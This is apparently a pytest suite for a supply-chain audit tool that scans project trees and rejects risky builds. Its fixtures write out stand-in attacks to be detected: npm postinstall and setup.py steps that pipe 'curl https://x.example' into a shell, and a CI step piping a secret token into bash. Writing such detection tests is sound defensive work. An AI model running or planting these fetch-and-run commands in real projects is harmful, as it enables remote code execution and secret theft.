"""Whole runs over trees on disk."""

import json

import pytest

from tarnwork.operators.policy import PolicyError, parse
from tarnwork.operators.query import Filters, UsageError
from tarnwork.plans import audit, render
from tarnwork.sources.tree import module_root, walk


def write(root, files):
    for name, text in files.items():
        p = root / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(text if isinstance(text, bytes) else text.encode())


@pytest.fixture(scope="module")
def trees(tmp_path_factory):
    top = tmp_path_factory.mktemp("trees")
    v1 = {"package.json": '{\n  "name": "a",\n  "dep": "git+https://github.com/x/y.git"\n}\n', "package-lock.json": "{}\n"}
    v2 = v1 | {
        "package.json": '{\n  "scripts": {\n  "postinstall": "curl https://x.example | sh"\n},\n  "dep": "git+https://github.com/x/y.git"\n}\n',
        "scripts/postinstall.sh": "#!/bin/sh\r\ncurl https://x.example/a | bash\r\n",
        ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps:\n    - run: echo ${{ secrets.TOKEN }} | bash\n",
        "src/bundle.js": "var _0xaa=1;" * 120,
        "src/app.py": "import subprocess\n\ndef run():\n    subprocess.run(['x'])\n",
        "bin/tool.dylib": b"\x00\xff\xfe",
        "node_modules/x/a.js": "ignored()",
        "skipped/a.py": "x = 1\n",
        ".gitignore": "skipped/\n",
        ".git/HEAD": "ref: refs/heads/main\n",  # ignore files of git hold in work trees only
    }
    write(top / "v1", v1)
    write(top / "v2", v2)
    write(top / "clean", {"src/lib.rs": "fn main() {}\n", "README.md": "# hi\n"})
    write(top / "broken", {"setup.py": 'print "x"\nimport os\nos.system("curl https://x.example | sh")\n'})
    write(top / "runs", {"src/lib.rs": "fn main() {}\n", "scripts/run.sh": "#!/bin/sh\nls\n"})
    (top / "runs/scripts/run.sh").chmod(0o755)
    return top


def test_walk(trees):
    paths = [p for p, _, _ in walk(str(trees / "v2"))]
    assert ".github/workflows/ci.yml" in paths and not any("node_modules" in p or "skipped" in p for p in paths)
    assert paths == sorted(paths)
    with pytest.raises(ValueError):
        module_root(str(trees / "v2"), "../v1")


def test_ignore_rules():
    from tarnwork.sources.tree import Ignores

    r = Ignores("src/*.py\n*.log\n!keep.log\nout/\n/top\na/**/z\ndeep/**\n[ab]?.txt\n# no\n\\#yes")
    hit = lambda p, d=False: bool(r.verdict(p, d))
    assert hit("src/a.py") and not hit("src/a/b.py") and hit("x/y.log") and not hit("x/keep.log")
    assert hit("out", True) and not hit("out") and hit("top") and not hit("x/top") and hit("a/z") and hit("a/b/c/z")
    assert hit("deep/x/y") and not hit("deep", True) and hit("q/a1.txt") and not hit("q/c1.txt") and hit("#yes") and not hit("# no")


IGNORES = {
    ".gitignore": "*.log\nlib/\n/top.txt\n", ".ignore": "secret/\n!keep.log\n", "lib/evil.sh": "x", "a.log": "x", "keep.log": "x", "top.txt": "x", "sub/top.txt": "x", "secret/s.py": "x",
    "sub/.gitignore": "!b.log\n*.tmp\n", "sub/b.log": "x", "sub/c.tmp": "x", "sub/deep/lib/x.py": "x", "nested/.git/HEAD": "x", "nested/.gitignore": "own.py\n", "nested/own.py": "x", "nested/d.log": "x", "nested/more/own.py": "x",
    "info.md": "x", "node_modules/m.js": "x", "lib2/é.py": "x",
}


def test_git_ignore_files_hold_in_work_trees_only(spark, tmp_path):
    from tarnwork.sources import tree as T

    write(tmp_path / "plain", IGNORES)
    write(tmp_path / "work", IGNORES | {".git/HEAD": "x", ".git/info/exclude": "info.md\n"})
    write(tmp_path / "up", {".git/HEAD": "x", ".gitignore": "inner/sub/\nb.log\n", ".ignore": "top.txt\n"})
    write(tmp_path / "up/inner", {k: v for k, v in IGNORES.items() if k != ".ignore"})
    walked = {n: {p for p, _, _ in T.walk(str(tmp_path / n))} for n in ("plain", "work", "up/inner")}
    assert {"lib/evil.sh", "a.log", "sub/c.tmp", "info.md"} <= walked["plain"] and not {"secret/s.py", "nested/own.py", "node_modules/m.js"} & walked["plain"]
    assert not {"lib/evil.sh", "a.log", "sub/c.tmp", "top.txt", "info.md", "sub/deep/lib/x.py"} & walked["work"] and {"sub/b.log", "keep.log", "sub/top.txt", "nested/d.log"} <= walked["work"]
    assert not {"top.txt", "sub/top.txt", "sub/b.log", "lib/evil.sh"} & walked["up/inner"] and "secret/s.py" in walked["up/inner"]
    for name in walked:
        for listed in (20_000, 1):  # in one round, and in a round for every folder
            rows = T.read_tree(spark, str(tmp_path / name), listed=listed).collect()
            assert [r.path for r in sorted(rows, key=lambda r: r.seq)] == sorted(walked[name], key=str.encode) and [r.seq for r in sorted(rows, key=lambda r: r.seq)] == list(range(len(rows)))
    for name in ("plain", "work"):  # the same verdicts from a listing and its rules as a relation
        every = [(str(p.relative_to(tmp_path / name)), p.read_bytes()) for p in (tmp_path / name).rglob("*") if p.is_file()]
        files = spark.createDataFrame(every, "path string, content binary")
        assert {r.path for r in T.without_ignored(files, T.rules_of(files)).collect()} == walked[name]


def test_files_that_are_not_wanted_are_not_opened(spark, tmp_path):
    from pyspark.sql import functions as F

    from tarnwork.sources import tree as T

    write(tmp_path, {"a.py": "x", "b.md": "y", "sub/c.py": "z" * 100})
    (tmp_path / "b.md").chmod(0)
    rows = {r.path: r for r in T.read_tree(spark, str(tmp_path), F.col("path").endswith(".py"), maxBytes=50).collect()}
    assert {p: (r.content and bytes(r.content), r.read_failed) for p, r in rows.items()} == {"a.py": (b"x", False), "b.md": (None, False), "sub/c.py": (None, False)}
    spark.conf.set("spark.sql.python.filterPushdown.enabled", "true")
    try:
        spark.dataSource.register(T.TreeSource)
        df = spark.read.format("tree").load(str(tmp_path)).where("path like '%.py' and length < 50")
        assert [r.path for r in df.collect()] == ["a.py"]
    finally:
        spark.conf.unset("spark.sql.python.filterPushdown.enabled")
    reader = T._Reader(str(tmp_path), 50, (), 1 << 20)
    assert not list(reader.pushFilters([T.StringEndsWith(("path",), ".py"), T.LessThan(("length",), 50)]))
    assert [f[1] for p in reader.partitions() for f in p.files] == ["a.py"]


def test_trees_are_read_from_any_folder(trees, tmp_path):
    """Workers get the package from the session, not from the folder in which the driver was started."""
    import os
    import subprocess
    import sys

    top = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    code = f"import sys; sys.path.insert(0, {top!r}); from pyspark.sql import SparkSession; s = SparkSession.builder.master('local[2]').config('spark.ui.enabled', 'false').getOrCreate(); from tarnwork.sources.tree import read_tree; print('FILES', read_tree(s, {str(trees / 'v1')!r}).count())"
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    out = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert "FILES 2" in out.stdout


def test_query(spark, trees):
    out = audit.query(spark, str(trees / "v2"), Filters(calls="curl"))
    assert out.status == 0
    assert "scripts/postinstall.sh:2: call: curl https://x.example/a | bash" in {r.out for r in out.more["lines"].collect()}
    assert audit.query(spark, str(trees / "v1"), Filters(calls="nothing")).status == 1
    with pytest.raises(UsageError):
        Filters(calls="(").checked()
    with pytest.raises(UsageError):
        Filters().checked()


def test_surface_and_diff(spark, trees):
    out = audit.surface(spark, str(trees / "v2"), fail_on=("execute",))
    seen = {(r.capability, r.evidence) for r in out.rows.collect()}
    assert out.status == 1
    assert {("execute", "download-execute"), ("hook", "npm-postinstall"), ("secret", "ci-secret"), ("artifact", "obfuscated_source"), ("artifact", "binary_or_archive_extension"), ("deps", "remote-dep-source")} <= seen
    assert audit.diff(spark, str(trees / "v1"), str(trees / "v1")).status == 0
    d = audit.diff(spark, str(trees / "v1"), str(trees / "v2"))
    rows = d.rows.collect()
    assert d.status == 1 and any(r.evidence == "npm-postinstall" for r in rows) and not any(r.side == "removed" for r in rows)


def test_policies_of_thousands_of_rules(spark):
    from tarnwork.operators import policy as J

    sevs = ("high", "medium", "low")
    found = [(f"pkg{i}/src/m{i % 7}.py", i, sevs[i % 3], f"rule-{i % 5}", "t", "e", i % 5) for i in range(60)]
    r = J.Rule
    allow = [r(path=f"pkg{i}/", rule="rule-1", reason="r") for i in range(0, 4000, 6)] + [r(path="m6.py")]
    deny = [r(path=f"nowhere{i}") for i in range(3000)] + [r(rule="rule-2"), r(path="\\m3", reason="back")]
    override = [r(path=f"pkg{i}/src", severity=sevs[i % 2]) for i in range(2000)] + [r(path="g9", severity="low"), r(path="py", rule="rule-4", severity="medium")]
    df = spark.createDataFrame(found, "path string, line int, severity string, rule string, title string, evidence string, rule_seq int")
    few = J.judged(df, J.Policy([r(path="a")]))
    many = J.judged(df, J.Policy(allow, deny, override))
    text = lambda x: x._jdf.queryExecution().optimizedPlan().toString()
    assert len(text(many)) < len(text(few)) + 5000
    hits = lambda q, path, rule: (q.path is None or q.path.replace("\\", "/") in path) and (q.rule is None or q.rule == rule)
    for x in many.collect():
        before = sevs[x.line % 3]
        now, first = before, next((q for q in allow if hits(q, x.path, x.rule)), None)
        if any(hits(q, x.path, x.rule) for q in deny):
            now = "high"
        for q in override:
            now = q.severity if hits(q, x.path, x.rule) else now
        assert x.suppressed == (first is not None) and x.severity == (before if first else now) and (x.action is None) == (first is None and now == before), x


def test_all_policy_actions_in_the_order_of_the_ledger(spark, trees):
    import io

    gate = audit.gate(spark, str(trees / "v2"), parse('[[allowlist]]\nrule = "download-execute"\n[[allowlist]]\npath = "bin/"\n[[severity_override]]\npath = "."\nseverity = "low"\n'))
    out = io.StringIO()
    render.write_gate_text(out, gate)
    lines = out.getvalue().partition("POLICY:\n")[2].splitlines()
    assert len(lines) == gate.more["actions"].count() > 2 and lines[-1].startswith("- suppressed artifact") and "VERDICT:" in out.getvalue()
    out = io.StringIO()
    render.write_ledger(out, gate.rows)
    assert out.getvalue() == render.ledger(gate.rows)


def test_gate(spark, trees):
    bad = audit.gate(spark, str(trees / "v2"))
    assert (bad.status, bad.more["verdict"]["verdict"]) == (1, "REJECT")
    assert "| HIGH |" in render.ledger(bad.rows) and "VERDICT: REJECT" in bad.more["text"]
    good = audit.gate(spark, str(trees / "clean"))
    assert (good.status, good.more["verdict"]["verdict"]) == (0, "ACCEPT")
    broken = audit.gate(spark, str(trees / "broken"))
    assert broken.more["verdict"]["verdict"] == "REJECT" and "python-setup-command" in {r.rule for r in broken.rows.collect()}
    runs = audit.gate(spark, str(trees / "runs"))  # what is read is no artifact, executable or not
    assert (runs.status, runs.more["verdict"]["verdict"]) == (0, "ACCEPT")
    assert audit.gate(spark, str(trees / "clean"), parse("max_candidate_files = 1")).more["verdict"]["verdict"] == "INCOMPLETE"


def test_reports(spark, trees):
    import io

    from tarnwork.plans import reports as V

    out, root = io.StringIO(), str(trees / "v2")
    q = audit.query(spark, root, Filters(calls="curl"), limit=1)
    V.write_query(out, Filters(calls="curl"), q.more["scanned"], q.rows, 1)
    doc = json.loads(out.getvalue())
    assert doc["schema_version"] == 1 and doc["query"] == {"calls": "curl"} and doc["truncated"] and doc["shown_evidence"] == 1 < doc["matched_evidence"]
    assert sum(len(m["evidence"]) for m in doc["matches"]) == 1 and len(doc["matches"]) == doc["matched_files"]
    gate, out = audit.gate(spark, root), io.StringIO()
    V.write_gate(out, gate)
    doc = json.loads(out.getvalue())
    assert doc["verdict"] == "REJECT" and doc["exit_reason"] == "reject" and doc["findings"] and doc["coverage"]["candidate_files"] > 0
    assert [a["path"] for a in doc["suspicious_artifacts"]] == ["bin/tool.dylib"]
    from pyspark.sql import functions as F

    planned = V.planned_prompts(gate.rows.withColumn("batch", F.lit(0)), spark.range(2).select(F.col("id").cast("int").alias("batch")))
    bench = V.benchmark(root, gate, planned, 5, costs=(2.0, 1.0))
    assert bench["tokens"]["planned_requests"] == 2 and bench["cost"]["estimated_total_cost"] == bench["tokens"]["estimated_input_tokens"] / 1e6 * 2


def test_rules_run_over_each_batch(spark):
    from tarnwork.operators import extract as E
    from tarnwork.operators import seed as S
    from tarnwork.plans import reports as V

    rows = [("package.json", "package-json", "call", 1, '"postinstall": "curl https://x.example | sh"'), ("package-lock.json", "package-json", "signature", 1, '"name": "a"'), (".github/workflows/ci.yml", "yaml", "signature", 1, "permissions: write-all")]
    seeds = S.compact(E.records(spark.createDataFrame(rows, "path string, lang string, kind string, line int, text string")))
    rules = {}
    for cap in (1 << 20, 10):
        found, numbers = V.batched_findings(seeds, cap)
        rules[cap] = {(r.batch, r.path, r.rule) for r in found.collect()}
        assert numbers.count() == (1 if cap > 10 else 3)
        assert V.planned_prompts(found, numbers).first().planned_requests == numbers.count()
    assert not any(r[2] == "manifest-missing-lockfile" for r in rules[1 << 20]) and (2, "package.json", "manifest-missing-lockfile") in rules[10]
    assert {(p, r) for _, p, r in rules[10]} - {("package.json", "manifest-missing-lockfile")} == {(p, r) for _, p, r in rules[1 << 20]} and len(rules[10]) >= 3


def test_policy_is_checked():
    for text in ("x = 1", "[[allowlist]]\nreason = 'r'", "[[severity_override]]\nrule = 'a'\nseverity = 'huge'", "max_candidate_files = 'many'", "[["):
        with pytest.raises(PolicyError):
            parse(text)


def test_saved_reports(tmp_path):
    assert [render.save_report("x", str(tmp_path), "20260101").name for _ in range(2)] == ["audit-result-20260101-001.md", "audit-result-20260101-002.md"]


def test_stream(spark, trees, tmp_path):
    from tarnwork.streaming.scan import findings_stream, read_evidence

    _, evidence = audit.load(spark, str(trees / "v2"))
    evidence.where("kind <> 'external'").coalesce(1).write.json(str(tmp_path / "in"))
    q = findings_stream(read_evidence(spark, str(tmp_path / "in")), str(tmp_path / "out"), str(tmp_path / "cp"))
    q.awaitTermination()
    assert spark.read.parquet(str(tmp_path / "out")).where("rule = 'download-execute'").count() > 0
